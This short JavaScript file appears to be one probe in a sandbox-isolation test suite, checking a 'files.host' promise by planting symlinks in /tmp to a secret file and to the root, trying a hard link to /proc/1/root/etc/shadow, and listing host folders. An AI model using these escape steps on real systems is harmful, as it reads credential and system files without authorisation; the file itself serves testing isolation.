// promise: files.host
// attack: plants links to the machine's files in its scratch space and reads through them
const fs = require('node:fs');
const { tried, read, verdict, PLANTED } = require('./attack.cjs');
exports.handler = ({ secret_file, folders }) => {
  fs.symlinkSync(secret_file, '/tmp/link');
  fs.symlinkSync('/../../../../..', '/tmp/up');
  const hard = tried(() => fs.linkSync('/proc/1/root/etc/shadow', '/tmp/hard'));
  return verdict(
    PLANTED.test(read('/tmp/link')) && 'through a link',
    PLANTED.test(read(`/tmp/up${secret_file}`)) && 'through a link upwards',
    hard === 'done' && 'it made a hard link',
    folders.map((path) => tried(() => fs.readdirSync(`/tmp/up${path}`).length) >= 0 && `it lists ${path}`),
  );
};
